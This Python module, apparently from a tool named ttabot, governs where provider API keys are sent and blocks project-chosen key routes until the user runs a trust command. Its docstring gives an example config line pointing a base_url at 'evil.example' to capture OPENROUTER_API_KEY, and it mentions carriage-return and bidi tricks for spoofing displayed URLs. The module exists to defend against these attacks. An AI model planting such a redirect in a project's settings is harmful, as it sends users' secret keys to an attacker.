"""Key routes: which provider key goes to which server, and which of them need trust.

A *route* is a provider's name, its ``base_url`` and the environment variable its
key is read from. Outside the Action the project's own files (``.ttabot.toml``,
``[tool.ttabot]``) are settings too, and a stranger's pull request can change
them: ``[providers.openrouter] base_url = "https://evil.example/v1"`` would send
``OPENROUTER_API_KEY`` there. So a key route that the project's files chose (one
that differs from the built-in defaults) is used only once the user trusted it
for that repository (``ttabot trust``), like direnv's ``allow``. A provider
without a key sends no secret and needs no trust. Pure decisions only; the trust
file and the warning live in ``ttabot.commands.trust``.
"""

from __future__ import annotations

import os
import unicodedata
from collections.abc import Iterable, Mapping
from typing import Any, NamedTuple
from urllib.parse import urlsplit

from ttabot.config.settings import DEFAULT_PROVIDERS, Provider, Settings
from ttabot.report import printable

#: The trust file's format version (``ttabot trust`` writes it; anything else is ignored).
TRUST_VERSION = 1


class Route(NamedTuple):
    """Where one provider sends the key it reads from ``api_key_env``."""

    provider: str
    #: The provider's ``base_url`` without a trailing slash: any change is a new route.
    base_url: str
    api_key_env: str

    @property
    def host(self) -> str:
        """The host the key goes to (the whole URL when it has none)."""
        return urlsplit(self.base_url).hostname or self.base_url


def route_of(provider: Provider) -> Route | None:
    """``provider``'s key route; None when it names no key (nothing secret is sent)."""
    if not provider.api_key_env:
        return None
    return Route(provider.name, provider.base_url.rstrip("/"), provider.api_key_env)


#: The built-in providers' routes: trusted everywhere.
BUILTIN_ROUTES = frozenset(r for p in DEFAULT_PROVIDERS.values() if (r := route_of(p)) is not None)


def project_routes(settings: Settings) -> tuple[Route, ...]:
    """The key routes of ``settings`` that are not built in, by provider name.

    Meant for settings read from the project's files: these are the routes the
    files chose, and the ones that need the user's trust.
    """
    routes = (route_of(p._replace(name=name)) for name, p in sorted(settings.providers.items()))
    return tuple(r for r in routes if r is not None and r not in BUILTIN_ROUTES)


def blocked_routes(
    routes: Iterable[Route], trusted: frozenset[Route], environ: Mapping[str, str]
) -> tuple[Route, ...]:
    """The ``routes`` that would send a key (its variable is set) and are not ``trusted``."""
    return tuple(r for r in routes if environ.get(r.api_key_env) and r not in trusted)


def without_providers(settings: Settings, names: Iterable[str]) -> Settings:
    """``settings`` with every chain model of the providers ``names`` left out."""
    gone = frozenset(names)
    if not gone:
        return settings
    chains = {
        kind: tuple(ref for ref in refs if ref.partition(":")[0] not in gone)
        for kind, refs in settings.chains.items()
    }
    return settings._replace(chains=chains)


def shown(text: str) -> str:
    """``text`` as a route is shown for review: control and format characters as escapes.

    The project's files choose a route's every part. Printed raw, a carriage return
    would let a decoy overwrite the real URL on the terminal, and an escape sequence
    or a bidi override (a format character) would hide or reorder the rest.
    """
    return "".join(
        f"\\u{ord(c):04x}" if unicodedata.category(c) == "Cf" else c for c in printable(text)
    )


def route_line(route: Route, mark: str = "") -> str:
    """``  provider: KEY_VARIABLE -> base_url`` (then ``mark``), shown safely for review."""
    return f"  {shown(route.provider)}: {shown(route.api_key_env)} -> {shown(route.base_url)}{mark}"


def blocked_warning(routes: Iterable[Route], where: str) -> str:
    """One line saying which keys ``where`` would send where, and what to run to allow it."""
    sends = ", ".join(
        f"{shown(r.api_key_env)} to {shown(r.host)} (provider {shown(r.provider)})"
        for r in sorted(routes)
    )
    return (
        f"ttabot: warning: {shown(where)} sends {sends}; not used until you run "
        "'ttabot trust' in this repository"
    )


# --- the trust file's contents -------------------------------------------------


def trust_document(repositories: Mapping[str, Iterable[Route]]) -> dict[str, Any]:
    """The JSON object the trust file holds: each repository root's trusted routes."""
    return {
        "version": TRUST_VERSION,
        "repositories": {
            root: [r._asdict() for r in sorted(set(routes))]
            for root, routes in sorted(repositories.items())
        },
    }


def parse_trust(data: Any) -> dict[str, frozenset[Route]] | None:
    """The trusted routes per repository root in ``data``; None if any of it is malformed.

    All or nothing: a file ttabot did not write (or a damaged one) trusts nothing.
    """
    if not isinstance(data, dict) or data.get("version") != TRUST_VERSION:
        return None
    repositories = data.get("repositories")
    if not isinstance(repositories, dict):
        return None
    out: dict[str, frozenset[Route]] = {}
    for root, entries in repositories.items():
        if not isinstance(root, str) or not os.path.isabs(root) or not isinstance(entries, list):
            return None
        routes: set[Route] = set()
        for entry in entries:
            if not isinstance(entry, dict) or set(entry) != set(Route._fields):
                return None
            if not all(isinstance(v, str) and v for v in entry.values()):
                return None
            routes.add(Route(**entry))
        out[root] = frozenset(routes)
    return out
